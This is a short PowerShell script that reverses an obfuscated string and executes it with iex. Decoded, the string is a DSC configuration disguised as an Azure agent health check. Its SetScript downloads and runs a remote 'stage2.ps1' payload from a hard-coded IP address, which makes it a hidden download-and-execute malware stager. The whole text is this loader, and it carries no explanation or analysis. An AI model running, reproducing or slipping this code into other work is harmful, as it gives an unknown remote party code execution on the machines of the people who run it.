$espax='
}
}  
}    
} )''1sp.2egats/32.001.15.891//:ptth''(gnirtSdaolnwoD.)tneilCbeW.teN tcejbO-weN( XEI { = tpircSteS      
} eslaf$ { = tpircStseT      
} } '''' = tluseR {@ { = tpircSteG      
{ partstooB tpircS    
{ tsohlacol edoN  
noitarugifnoCetatSderiseDSP emaNeludoM- ecruoseRcsD-tropmI  
{ htlaeHtnegAeruzA noitarugifnoC
1v 5607 gifnoc #'.ToCharArray(); [array]::Reverse($espax); iex (-join $espax)